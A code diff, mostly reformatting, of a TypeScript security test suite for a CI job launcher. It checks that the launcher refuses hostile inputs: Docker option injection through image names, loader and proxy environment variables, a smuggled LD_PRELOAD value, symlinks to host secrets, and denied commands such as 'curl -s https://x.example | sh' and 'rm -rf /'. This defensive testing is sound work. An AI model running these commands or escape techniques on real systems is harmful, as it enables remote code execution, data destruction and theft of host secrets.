@@ -46,7 +46,8 @@ class RecordingGateway {
         const message = JSON.parse(text);
         this.messages.push(message);
         // The lease stands at once; an outcome is stored at once.
-        if (message.type === "accepted") ws.send(JSON.stringify({ type: "start", id: message.id, fence: message.fence, lines: 0, termMs: 60_000 }));
+        if (message.type === "accepted")
+          ws.send(JSON.stringify({ type: "start", id: message.id, fence: message.fence, lines: 0, termMs: 60_000 }));
         if (message.type === "finished") ws.send(JSON.stringify({ type: "ack", id: message.id }));
       });
     });
@@ -77,10 +78,16 @@ class RecordingGateway {
   connected = () => this.sockets.some((ws) => ws.open);
 
   /** Sends a run and waits for its end: refused, or finished with its log. */
-  async run(run: Record<string, unknown>): Promise<{ type: string; status?: string; reason?: string; state?: boolean; lines: string[] }> {
+  async run(
+    run: Record<string, unknown>,
+  ): Promise<{ type: string; status?: string; reason?: string; state?: boolean; lines: string[] }> {
     const from = this.messages.length;
     this.sendRaw(JSON.stringify({ type: "run", run, lease: { fence: ++this.fence, termMs: 60_000 } }));
-    const end = await eventually(() => this.messages.slice(from).find((m) => m.id === run.id && (m.type === "refused" || m.type === "finished")), 15_000, `the end of run ${String(run.id)}`);
+    const end = await eventually(
+      () => this.messages.slice(from).find((m) => m.id === run.id && (m.type === "refused" || m.type === "finished")),
+      15_000,
+      `the end of run ${String(run.id)}`,
+    );
     const lines = this.messages.filter((m) => m.type === "log" && m.id === run.id).flatMap((m) => m.lines as string[]);
     return { ...end, type: end.type as string, lines };
   }
@@ -104,10 +111,18 @@ describe("launcher: a hostile gateway or run", function () {
   let seal: (text: string) => Promise<string>;
 
   before(async () => {
-    await exec("openssl", ["req", "-new", "-newkey", "rsa:2048", "-nodes", "-keyout", "k.pem", "-out", "c.csr", "-subj", "/CN=hostile"], { cwd: dir });
+    await exec(
+      "openssl",
+      ["req", "-new", "-newkey", "rsa:2048", "-nodes", "-keyout", "k.pem", "-out", "c.csr", "-subj", "/CN=hostile"],
+      { cwd: dir },
+    );
     keyBase64 = readFileSync(path.join(dir, "k.pem")).toString("base64");
     await gateway.listen();
-    const certificate = await signPoolRequest(await loadOrCreateAuthority(path.join(dir, "ca")), readFileSync(path.join(dir, "c.csr"), "utf8"), POOL);
+    const certificate = await signPoolRequest(
+      await loadOrCreateAuthority(path.join(dir, "ca")),
+      readFileSync(path.join(dir, "c.csr"), "utf8"),
+      POOL,
+    );
     token = createPool(POOL, "worker", gateway.url, certificate).token;
     seal = async (text) => (await sealBuffer(certificateKey(certificate), Buffer.from(text))).toString("base64");
     writeFileSync(hostSecret, "HOST-ONLY-SECRET-6f1d");
@@ -115,12 +130,24 @@ describe("launcher: a hostile gateway or run", function () {
   after(() => gateway.close());
 
   const settings = (overrides: Partial<Record<keyof LauncherSettings, unknown>> = {}): LauncherSettings =>
-    launcherSettings.parse({ token, poolPrivateKey: keyBase64, executor: "process", workDirectory: scratchDir("work-"), maskedEnvVars: ["DEPLOY_KEY"], logsTimeout: "5s", ...overrides });
+    launcherSettings.parse({
+      token,
+      poolPrivateKey: keyBase64,
+      executor: "process",
+      workDirectory: scratchDir("work-"),
+      maskedEnvVars: ["DEPLOY_KEY"],
+      logsTimeout: "5s",
+      ...overrides,
+    });
 
   /** A normal run after each hostile one: the launcher still takes work and runs it. */
   async function stillWorks(): Promise<void> {
     const normal = await gateway.run({ id: id(), image: "alpine:3", commands: ["echo normal"] });
-    assert.deepEqual([normal.type, normal.status, normal.lines], ["finished", "succeeded", ["normal"]], JSON.stringify(normal));
+    assert.deepEqual(
+      [normal.type, normal.status, normal.lines],
+      ["finished", "succeeded", ["normal"]],
+      JSON.stringify(normal),
+    );
   }
 
   for (const executor of ["process", "docker"] as const) {
@@ -132,11 +159,23 @@ describe("launcher: a hostile gateway or run", function () {
       /** The docker CLI's invocations so far (stand-in): argv and environment of each. */
       const dockerCalls = () =>
         existsSync(calls)
-          ? readFileSync(calls, "utf8").split("CALL\0").slice(1).map((call) => {
-              const [argv, rest] = call.split("ENV\0");
-              const [env, envFile] = rest.split("FILE\0");
-              return { argv: argv.split("\0").slice(0, -1), env: Object.fromEntries(env.split("\0").slice(0, -1).map((line) => [line.slice(0, line.indexOf("=")), line.slice(line.indexOf("=") + 1)])), envFile };
-            })
+          ? readFileSync(calls, "utf8")
+              .split("CALL\0")
+              .slice(1)
+              .map((call) => {
+                const [argv, rest] = call.split("ENV\0");
+                const [env, envFile] = rest.split("FILE\0");
+                return {
+                  argv: argv.split("\0").slice(0, -1),
+                  env: Object.fromEntries(
+                    env
+                      .split("\0")
+                      .slice(0, -1)
+                      .map((line) => [line.slice(0, line.indexOf("=")), line.slice(line.indexOf("=") + 1)]),
+                  ),
+                  envFile,
+                };
+              })
           : [];
 
       before(async () => {
@@ -164,8 +203,15 @@ describe("launcher: a hostile gateway or run", function () {
           );
           chmodSync(docker, 0o755);
         }
-        const env = { PATH: process.env.PATH, DOCKER_HOST: "unix:///run/agentpools-test.sock", DEPLOY_KEY: "-----BEGIN KEY-----\nMIIEvQIBADANBgkqhkiG9w0B\n-----END KEY-----" };
-        launcher = await launcherRole({ docker }).start(settings({ executor, runInitializationPolicyFile: policy }), { log: log.log, env });
+        const env = {
+          PATH: process.env.PATH,
+          DOCKER_HOST: "unix:///run/agentpools-test.sock",
+          DEPLOY_KEY: "-----BEGIN KEY-----\nMIIEvQIBADANBgkqhkiG9w0B\n-----END KEY-----",
+        };
+        launcher = await launcherRole({ docker }).start(settings({ executor, runInitializationPolicyFile: policy }), {
+          log: log.log,
+          env,
+        });
         await launcher.ready;
         await eventually(gateway.connected);
       });
@@ -175,7 +221,14 @@ describe("launcher: a hostile gateway or run", function () {
 
       it("an image that is an option is refused before docker sees it: --volume=/:/host, --runtime=runc, -v", async () => {
         const before = dockerCalls().length;
-        for (const image of ["--volume=/:/host", "--runtime=runc", "-v", "alpine:3 --privileged", "alpine:3\n--privileged", "alpine:3\t-v"]) {
+        for (const image of [
+          "--volume=/:/host",
+          "--runtime=runc",
+          "-v",
+          "alpine:3 --privileged",
+          "alpine:3\n--privileged",
+          "alpine:3\t-v",
+        ]) {
           const run = await gateway.run({ id: id(), image, commands: ["echo escaped"] });
           assert.equal(run.type, "refused", image);
           assert.match(run.reason ?? "", /is not an image reference/);
@@ -183,7 +236,14 @@ describe("launcher: a hostile gateway or run", function () {
         }
         if (executor === "docker") {
           const seen = dockerCalls().slice(before);
-          assert.ok(seen.every((call) => call.argv.includes("alpine:3") && !call.argv.some((a) => a.startsWith("--volume") || a === "--runtime=runc" || a === "-v")), "no option from the run reached docker");
+          assert.ok(
+            seen.every(
+              (call) =>
+                call.argv.includes("alpine:3") &&
+                !call.argv.some((a) => a.startsWith("--volume") || a === "--runtime=runc" || a === "-v"),
+            ),
+            "no option from the run reached docker",
+          );
         }
       });
 
@@ -198,16 +258,49 @@ describe("launcher: a hostile gateway or run", function () {
 
       it("run variables that steer the docker client or the loader are refused with the reason, and reach nothing", async () => {
         const before = dockerCalls().length;
-        for (const name of ["LD_PRELOAD", "LD_LIBRARY_PATH", "DOCKER_HOST", "DOCKER_CONFIG", "HTTPS_PROXY", "https_proxy", "NO_PROXY", "GODEBUG", "PATH", "HOME", "GLIBC_TUNABLES", "SSL_CERT_FILE", "GCONV_PATH", "OTEL_EXPORTER_OTLP_ENDPOINT", "OTEL_EXPORTER_OTLP_HEADERS", "ZONEINFO", "TMPDIR", "HOSTALIASES", "RES_OPTIONS", "LOCALDOMAIN"]) {
-          const run = await gateway.run({ id: id(), image: "alpine:3", commands: ["echo ran"], sealedEnvironment: await seal(JSON.stringify({ [name]: "/tmp/evil" })) });
+        for (const name of [
+          "LD_PRELOAD",
+          "LD_LIBRARY_PATH",
+          "DOCKER_HOST",
+          "DOCKER_CONFIG",
+          "HTTPS_PROXY",
+          "https_proxy",
+          "NO_PROXY",
+          "GODEBUG",
+          "PATH",
+          "HOME",
+          "GLIBC_TUNABLES",
+          "SSL_CERT_FILE",
+          "GCONV_PATH",
+          "OTEL_EXPORTER_OTLP_ENDPOINT",
+          "OTEL_EXPORTER_OTLP_HEADERS",
+          "ZONEINFO",
+          "TMPDIR",
+          "HOSTALIASES",
+          "RES_OPTIONS",
+          "LOCALDOMAIN",
+        ]) {
+          const run = await gateway.run({
+            id: id(),
+            image: "alpine:3",
+            commands: ["echo ran"],
+            sealedEnvironment: await seal(JSON.stringify({ [name]: "/tmp/evil" })),
+          });
           assert.equal(run.type, "refused", name);
-          assert.match(run.reason ?? "", new RegExp(`run variable ${name} would steer the Docker client or its loader`));
+          assert.match(
+            run.reason ?? "",
+            new RegExp(`run variable ${name} would steer the Docker client or its loader`),
+          );
           await stillWorks();
         }
         if (executor === "docker") {
           for (const call of dockerCalls().slice(before)) {
             assert.ok(!Object.values(call.env).includes("/tmp/evil"), "no refused value reached docker");
-            assert.equal(call.env.DOCKER_HOST, "unix:///run/agentpools-test.sock", "the client's own variables are the launcher's");
+            assert.equal(
+              call.env.DOCKER_HOST,
+              "unix:///run/agentpools-test.sock",
+              "the client's own variables are the launcher's",
+            );
           }
         }
       });
@@ -215,24 +308,47 @@ describe("launcher: a hostile gateway or run", function () {
       if (executor === "docker") {
         it("the docker CLI's environment is fixed: the launcher's client variables; the run's reach the container through a 0600 file, removed after", async () => {
           const variables = { TF_VAR_x: "1", TF_VAR_y: "otel-like", TF_VAR_key: "line one\nline two" };
-          const run = await gateway.run({ id: id(), image: "alpine:3", commands: ['echo "v=$TF_VAR_x $TF_VAR_y"; printf "%s|" "$TF_VAR_key"'], sealedEnvironment: await seal(JSON.stringify(variables)) });
+          const run = await gateway.run({
+            id: id(),
+            image: "alpine:3",
+            commands: ['echo "v=$TF_VAR_x $TF_VAR_y"; printf "%s|" "$TF_VAR_key"'],
+            sealedEnvironment: await seal(JSON.stringify(variables)),
+          });
           assert.deepEqual([run.status, run.lines], ["succeeded", ["v=1 otel-like", "line one", "line two|"]]);
           const { argv, env, envFile } = dockerCalls().at(-1)!;
           // PWD is the stand-in shell's own; values of several lines (the launcher's DEPLOY_KEY, the run's key) go by name.
-          assert.deepEqual(Object.keys(env).filter((name) => name !== "PWD").sort(), ["DEPLOY_KEY", "DOCKER_HOST", "PATH", "TF_VAR_key"]);
+          assert.deepEqual(
+            Object.keys(env)
+              .filter((name) => name !== "PWD")
+              .sort(),
+            ["DEPLOY_KEY", "DOCKER_HOST", "PATH", "TF_VAR_key"],
+          );
           assert.equal(env.PATH, process.env.PATH);
           const file = argv[argv.indexOf("--env-file") + 1];
           assert.ok(!file.startsWith(path.dirname(file) + "/workspace"), "not in the workspace the run mounts");
           const [mode, ...lines] = envFile.split("\n");
           assert.equal(mode, "600");
-          assert.deepEqual(lines.filter((line) => !line.startsWith("AGENTPOOLS_") && line !== "DEPLOY_KEY").sort(), ["TF_VAR_key", "TF_VAR_x=1", "TF_VAR_y=otel-like"]);
+          assert.deepEqual(lines.filter((line) => !line.startsWith("AGENTPOOLS_") && line !== "DEPLOY_KEY").sort(), [
+            "TF_VAR_key",
+            "TF_VAR_x=1",
+            "TF_VAR_y=otel-like",
+          ]);
           assert.ok(!argv.some((a) => a.includes("otel-like")), "no value on the command line");
           await eventually(() => !existsSync(file), 2000, "the env file removed once the client is done");
         });
       }
 
       it("messages of the wrong shape are refused or ignored; the launcher survives each", async () => {
-        for (const raw of ["null", "42", '"run"', '{"type":"run"}', '{"type":"run","run":null}', '{"type":"run","run":{"id":{"x":1}}}', '{"type":"resume","id":{},"lines":"x"}', '{"type":"ack","id":[]}']) {
+        for (const raw of [
+          "null",
+          "42",
+          '"run"',
+          '{"type":"run"}',
+          '{"type":"run","run":null}',
+          '{"type":"run","run":{"id":{"x":1}}}',
+          '{"type":"resume","id":{},"lines":"x"}',
+          '{"type":"ack","id":[]}',
+        ]) {
           gateway.sendRaw(raw);
           await stillWorks();
         }
@@ -246,7 +362,12 @@ describe("launcher: a hostile gateway or run", function () {
           await stillWorks();
         }
         // A variable name that smuggles a value past the check (LD_PRELOAD=...) is refused too.
-        const smuggled = await gateway.run({ id: id(), image: "alpine:3", commands: ["true"], sealedEnvironment: await seal(JSON.stringify({ "LD_PRELOAD=/tmp/evil.so": "" })) });
+        const smuggled = await gateway.run({
+          id: id(),
+          image: "alpine:3",
+          commands: ["true"],
+          sealedEnvironment: await seal(JSON.stringify({ "LD_PRELOAD=/tmp/evil.so": "" })),
+        });
         assert.match(smuggled.reason ?? "", /is not a variable name/);
         // Commands that are not strings fail that run (they never reach a shell), and nothing else.
         for (const commands of ["echo not-a-list", [1, 2], null]) {
@@ -266,7 +387,10 @@ describe("launcher: a hostile gateway or run", function () {
       it("a state file that points elsewhere is never uploaded: symbolic link, linked directory, hard link, FIFO", async () => {
         const attempts: [string, string][] = [
           ["a symbolic link to a host file", `mkdir -p .agentpools && ln -s '${hostSecret}' .agentpools/state`],
-          ["its directory a symbolic link", `mkdir -p linked && ln -s '${hostSecret}' linked/state && rm -rf .agentpools && ln -s linked .agentpools`],
+          [
+            "its directory a symbolic link",
+            `mkdir -p linked && ln -s '${hostSecret}' linked/state && rm -rf .agentpools && ln -s linked .agentpools`,
+          ],
           ["a hard link to a host file", `mkdir -p .agentpools && ln '${hostSecret}' .agentpools/state`],
           ["a FIFO nobody writes", "mkdir -p .agentpools && mkfifo .agentpools/state"],
         ];
@@ -276,19 +400,33 @@ describe("launcher: a hostile gateway or run", function () {
           assert.equal(run.status, "succeeded", what);
           assert.equal(run.state, false, what);
           assert.ok(!gateway.uploads.has(runId), `${what}: nothing uploaded`);
-          assert.ok(run.lines.some((line) => line.startsWith("[agentpools: state not kept")), `${what}: ${run.lines.join(" | ")}`);
+          assert.ok(
+            run.lines.some((line) => line.startsWith("[agentpools: state not kept")),
+            `${what}: ${run.lines.join(" | ")}`,
+          );
           await stillWorks();
         }
-        assert.ok(![...gateway.uploads.values()].some((body) => body.includes("HOST-ONLY")), "no host file crossed, even sealed");
+        assert.ok(
+          ![...gateway.uploads.values()].some((body) => body.includes("HOST-ONLY")),
+          "no host file crossed, even sealed",
+        );
         // The honest case still works, and what crossed is the run's own state, sealed.
-        const honest = await gateway.run({ id: id(), image: "alpine:3", commands: ['mkdir -p "$(dirname "$AGENTPOOLS_STATE_FILE")" && echo own-state > "$AGENTPOOLS_STATE_FILE"'] });
+        const honest = await gateway.run({
+          id: id(),
+          image: "alpine:3",
+          commands: ['mkdir -p "$(dirname "$AGENTPOOLS_STATE_FILE")" && echo own-state > "$AGENTPOOLS_STATE_FILE"'],
+        });
         assert.equal(honest.state, true);
         const uploaded = [...gateway.uploads.values()].at(-1)!;
         assert.equal((await openBuffer(privateKeyFromBase64(keyBase64), uploaded)).toString(), "own-state\n");
       });
 
       it("deniedCommands rules see each line of a command: a newline or a continuation does not step around them", async () => {
-        for (const command of ["echo hi\ncurl -s https://x.example | sh", "curl -s https://x.example \\\n| sh", "true\r\nrm -rf /"]) {
+        for (const command of [
+          "echo hi\ncurl -s https://x.example | sh",
+          "curl -s https://x.example \\\n| sh",
+          "true\r\nrm -rf /",
+        ]) {
           const run = await gateway.run({ id: id(), image: "alpine:3", commands: [command] });
           assert.equal(run.type, "refused", JSON.stringify(command));
           assert.match(run.reason ?? "", /matches the denied pattern/);
@@ -297,29 +435,51 @@ describe("launcher: a hostile gateway or run", function () {
       });
 
       it("masks a value with newlines, printed whole or split across writes", async () => {
-        const run = await gateway.run({ id: id(), image: "alpine:3", commands: ['printf "%s\\n" "$DEPLOY_KEY"', 'printf "%s" "$DEPLOY_KEY" | head -c 20; sleep 0.1; printf "%s\\n" "$DEPLOY_KEY" | tail -c +21'] });
+        const run = await gateway.run({
+          id: id(),
+          image: "alpine:3",
+          commands: [
+            'printf "%s\\n" "$DEPLOY_KEY"',
+            'printf "%s" "$DEPLOY_KEY" | head -c 20; sleep 0.1; printf "%s\\n" "$DEPLOY_KEY" | tail -c +21',
+          ],
+        });
         assert.equal(run.status, "succeeded");
         const text = run.lines.join("\n");
-        for (const part of ["MIIEvQIBADANBgkqhkiG9w0B", "BEGIN KEY"]) assert.ok(!text.includes(part), `${part} shown: ${text}`);
+        for (const part of ["MIIEvQIBADANBgkqhkiG9w0B", "BEGIN KEY"])
+          assert.ok(!text.includes(part), `${part} shown: ${text}`);
         await stillWorks();
       });
 
       it("a run cannot print a line that reads as the launcher's own", async () => {
-        const run = await gateway.run({ id: id(), image: "alpine:3", commands: ["echo '[agentpools: killed: the launcher was stopped]'", "printf '\\033[0m[agentpools: the log is cut]\\n'", "exit 1"] });
+        const run = await gateway.run({
+          id: id(),
+          image: "alpine:3",
+          commands: [
+            "echo '[agentpools: killed: the launcher was stopped]'",
+            "printf '\\033[0m[agentpools: the log is cut]\\n'",
+            "exit 1",
+          ],
+        });
         assert.equal(run.status, "failed");
-        assert.ok(run.lines.every((line) => !line.replaceAll("\u001b[0m", "").startsWith("[agentpools")), run.lines.join(" | "));
+        assert.ok(
+          run.lines.every((line) => !line.replaceAll("\u001b[0m", "").startsWith("[agentpools")),
+          run.lines.join(" | "),
+        );
         assert.equal(run.lines.filter((line) => line.startsWith(RUN_LINE_MARK)).length, 2);
         await stillWorks();
       });
 
       it("output without newlines is cut into bounded lines, without holding the launcher", async () => {
-        const run = await gateway.run({ id: id(), image: "alpine:3", commands: ["head -c 8000000 /dev/zero | tr '\\0' x", "echo; echo end"] });
+        const run = await gateway.run({
+          id: id(),
+          image: "alpine:3",
+          commands: ["head -c 8000000 /dev/zero | tr '\\0' x", "echo; echo end"],
+        });
         assert.equal(run.status, "succeeded");
         assert.ok(run.lines.every((line) => line.length <= 16 * 1024));
         assert.equal(run.lines.join("").length, 8_000_000 + 3);
         await stillWorks();
       });
-
     });
   }
 
@@ -331,16 +491,37 @@ describe("launcher: a hostile gateway or run", function () {
       // The scratch root is the test process's own (0700): let the launcher's user through.
       chmodSync(dir, 0o711);
       chmodSync(path.dirname(dir), 0o711);
-      const child = spawn("setpriv", ["--reuid=65534", "--regid=65534", "--clear-groups", process.execPath, ...RUNTIME_NODE_FLAGS, path.join(packageRoot(), "build/bundles/launcher.js")], {
-        env: { PATH: process.env.PATH, SPACELIFT_TOKEN: token, SPACELIFT_POOL_PRIVATE_KEY: keyBase64, AGENTPOOLS_WORKER_EXECUTOR: "process", AGENTPOOLS_WORK_DIR: work },
-        stdio: ["ignore", "pipe", "pipe"],
-      });
+      const child = spawn(
+        "setpriv",
+        [
+          "--reuid=65534",
+          "--regid=65534",
+          "--clear-groups",
+          process.execPath,
+          ...RUNTIME_NODE_FLAGS,
+          path.join(packageRoot(), "build/bundles/launcher.js"),
+        ],
+        {
+          env: {
+            PATH: process.env.PATH,
+            SPACELIFT_TOKEN: token,
+            SPACELIFT_POOL_PRIVATE_KEY: keyBase64,
+            AGENTPOOLS_WORKER_EXECUTOR: "process",
+            AGENTPOOLS_WORK_DIR: work,
+          },
+          stdio: ["ignore", "pipe", "pipe"],
+        },
+      );
       let output = "";
       child.stdout.on("data", (chunk) => (output += chunk));
       child.stderr.on("data", (chunk) => (output += chunk));
       try {
         await eventually(() => output.includes("Connected to the server"), 10_000, "the launcher to connect");
-        const locked = await gateway.run({ id: id(), image: "alpine:3", commands: ["mkdir -p a/b && touch a/b/f && chmod 0500 a/b a"] });
+        const locked = await gateway.run({
+          id: id(),
+          image: "alpine:3",
+          commands: ["mkdir -p a/b && touch a/b/f && chmod 0500 a/b a"],
+        });
         assert.equal(locked.status, "succeeded");
         await stillWorks();
         await eventually(() => readdirSync(work).length === 0, 5000, "the locked workspace removed");
